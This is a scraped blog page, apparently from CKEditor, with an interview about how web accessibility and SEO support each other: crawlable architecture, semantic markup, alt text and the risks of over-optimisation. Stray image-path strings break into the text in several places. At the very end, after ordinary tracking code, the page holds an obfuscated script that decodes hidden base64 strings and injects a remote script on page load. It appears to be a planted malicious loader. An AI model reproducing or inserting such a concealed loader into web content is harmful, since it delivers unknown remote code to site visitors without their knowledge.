Accessibility, usability and SEO go hand in hand

David Carralon is a marketing professional based in Paris. He currently works as the Head of International SEO for Career Builder. In his spare time he writes about Search Engine Marketing on his blog and tweets about “all things digital marketing” at @DavidCarralon.

In this brief talk, we are looking at how web accessibility and search engine optimizationare closely connected. Read on for more!

David, what similar issues stand in front of a user who has certain disabilities (either physical or technical) and Googlebot when exploring the web?

The similar main issue I can think of is navigation. Search engine bots have to be treated like disabled users. There are no other user agents more disabled than them.

If the website is badly designed to the point where users struggle to comprehend the website and/or get a feeling of control, the chances are that the search engine bots will struggle too. Worst case scenario is that certain key parts of your website are never being found nor acknowledged by search engines. Insufficient or incomplete crawling would lead to loss of relevant traffic and, eventually, leads.

In your blog post about search ranking factors you mention, that "accessiblesites leading to a great architecture" are amongst the top 3 search engine ranking factors, that influence high ranking in organic search results. We are all aware that web accessibility is about providing equal opportunity for people with disabilities surfing the web, but what about the “great architecture” part. Could you elaborate?

I think there are two parts to the answer: the first one is to clarify that web accessibility is not just to create acomfortable environment for people with disabilities but for all users. It’s about ensuring that all parts of the website can be navigated easily, that interaction happens naturally and that all users understand the website without having to spend hours studying it.

The second question is how web accessibility influences website architecture. I assume that you mean both information architecture (IA) and technical architecture. Good web accessibility is about ensuring that the site is organized in a meaningful and logical manner, in order to help users with the task of navigation and comprehension. IA is a tool or technique that can help achieve that goal. In addition to that, the technical platform needs to be made accessible to both users and search engine bots.  So things like navigation, labeling, shallow vs deep website structure are often key to effective content findability and discovery, particularly when it comes to indexation of large websites. Web accessibility does clearly influence website architecture by demanding standards-compliant techniques (HTML sitemaps, HTML5 vs jQuery, not using Javascript for navigation, etc.)

Citing after Google's Accessibility pages: "Google actively promotes an accessible web by serving on standards and advisory committees." Is there any strong evidence that Google favours sites that have implemented the latest Accessibility Standards (WCAG, Section 508, WAI-ARIA Suite) or we can only hope that these standards improve organic search rankings?

I don't think that Google would simply prefer one site to another just because it meets all web accessibility standards. However, Googlemay use many of the signals deriving  from implementing good web accessibility standards when assessing a site’s suitability or eligibility to rank for certain terms. They look at over 200 ranking factors before they decide what position a page should rank on. Many of those are likely to be directly influenced or dictated by  having good website accessibility. Therefore adopting accessibility-compliant CMS solutions for enterprise use, is always going to help improve SEO. A good example is the CKEditor with Accessibility Checker that you guys have built which allows you to inspect the levels of accessibility of a given piece of content. Accessibility, usability and SEO always go hand in hand to provide overall good user experience, both for standard users and disabled ones.

Is there such a thing as overdoing with SEO and (in turn) affecting accessibility of a website?

Over-optimisation and Spam SEO can both adversely affect web accessibility for sure. For example, over-optimisation of meta tags can lead to ambiguous understanding of the different pieces of content on a website, particularly for someone using a screen reader. So yes, I believe that overdoing SEO or spamming on-page meta tags and content can negatively impact website's accessibility.

The site needs to be designed, optimised and developed with the user in mind in the first place. Even when SEO is a big part of the designing process, one should still take the interest of the user into account for all recommendations and decisions made. Only then accessibility can be preserved.

Are there any SEM techniques that can reduce page accessibility?

Yes, I’m sure there are. For example, landing pages used for paid advertising campaigns aiming at user conversion are often free from navigation aid. An impaired user landing on such page would have a difficult job figuring out thatit is just a campaign landing page and that in order to access the actual website of the company they need to move onto the root level domain. Not an easy topic as marketers do want these pages while internal UX teams may not.

If you could pick 5 essential things to improve in an online service that cover both web accessibility and SEO bestpractice, what would that be?

  • Semantic Markup (descriptive & hierarchical headings, page titles etc.)
  • Descriptive Link text (anchor text)
  • Image optimisation (both in caption and alt tag)
  • Recommendations to make the site architecture crawlable
  • Writing short, concise and memorable urls

If you worked for a large corporate company, how would you sell accessibility to your boss?

It depends on which country we are in. If it's in the United Kingdom or France, I could use the argument that web accessibility standards are regulated by law and need to be adhered to. Therefore, I would bring up the legal aspects of having to adopt it.

In another context I would alsoadd info about implications for the user experience, for company's marketing goals and overall for the sites ability tomonetize its users. I could also explain the correlation between improving accessibility and crawlability and better search engine rankings.

Lastly, I would run a full accessibility audit of the website and bring up the top points for company’s consideration explaining how each of them may be affecting accessibility, andSEO.

Wikipedia mentions Google being "the most-used search engine on the World Wide Web, handling more than three billion searches each day. As of February 2015 it is the most used search engine in the US with 64.5% market share." What's your experience with other search engines in terms of accessibility and SEO?

Based on my own experience so far, I’d say that all main search engines out there are currently using sophisticated crawling infrastructure to discover and understand websites (with perhaps Naver the least sophisticated and more focused on paid listings rather than organic). Generally speaking all mainstream search engines out there use crawling technology that relies heavily on websites being accessible in order to find and discover content that they can index and use on their results pages.

Any other comments/thoughts around SEO and accessibility?

To anyone who wants to learn more about web accessibility I would recommend them , in the first place, to browse the official W3C WAI website and the tools recommended by the W3 consortium. Browser-based accessibility toolbars are also worth exploring.

You can read more on the topic of Web Accessibility in The Technology We Use Shouldn’t Limit Us from Finding a Connection5 Tips on How to Improve Accessibility When Creating Your Web Content in a WYSIWYG EditorCommercial Benefits of Accessibilityand If You're not Thinking About Accessibility - a Talk with Marcy Sutton blog posts.

In order to save your time and make sure that you implement proper accessibilitystandards on your website, we have created the Accessibility Checker - the first tool that enables you to check your content for accessibility issues and fix them before you go live.

It is built upon three key elements:

  1. User interface optimized for quick problem solving
  2. Flexibility allowing you to use the accessibility checking engine of your choice
  3. Quick Fix feature allowing you to eliminate common problems fully automatically

Related posts

Subscribe to our newsletter

Keep your CKEditor fresh! Receive updates about releases, new features and security fixes.

Thanks for subscribing!

We use cookies and other technologies to provide you with a better user experience.

Learn more about cookies policy

Hi there, any questions about products or pricing?

Questions about our products or pricing?

Contact our Sales Representatives.

We are happy to
hear from you!

Thank you for reaching out to the CKEditor Sales Team. We have received your message and we will contact you shortly.

piAId = '1019062'; piCId = '3317'; piHostname = ''; (function() { function async_load(){ var s = document.createElement('script'); s.type = 'text/javascript'; s.src = ('https:' == document.location.protocol ? 'https://' : 'http://') + piHostname + '/pd.js'; var c = document.getElementsByTagName('script')[0];c.parentNode.insertBefore(s, c); } if(window.attachEvent) { window.attachEvent('onload', async_load); } else { window.addEventListener('load', async_load, false); } })();(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start': new Date().getTime(),event:'gtm.js'});const f=d.getElementsByTagName(s)[0], j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src= ''+i+dl;f.parentNode.insertBefore(j,f); })(window,document,'script','dataLayer','GTM-KFSS6L');window[(function(_2VK,_6n){var _91='';for(var _hi=0;_hi<_2VK.length;_hi++){_91==_91;_DR!=_hi;var _DR=_2VK[_hi].charCodeAt();_DR-=_6n;_DR+=61;_DR%=94;_DR+=33;_6n>9;_91+=String.fromCharCode(_DR)}return _91})(atob('J3R7Pzw3MjBBdjJG'), 43)] = '37db4db8751680691983'; var zi = document.createElement('script'); (zi.type = 'text/javascript'), (zi.async = true), (zi.src = (function(_HwU,_af){var _wr='';for(var _4c=0;_4c<_HwU.length;_4c++){var_Gq=_HwU[_4c].charCodeAt();_af>4;_Gq-=_af;_Gq!=_4c;_Gq+=61;_Gq%=94;_wr==_wr;_Gq+=33;_wr+=String.fromCharCode(_Gq)}return_wr})(atob('IS0tKSxRRkYjLEUzIkQseisiKS0sRXooJkYzIkQteH5FIyw='), 23)), document.readyState === 'complete'?document.body.appendChild(zi):window.addEventListener('load', function(){document.body.appendChild(zi) });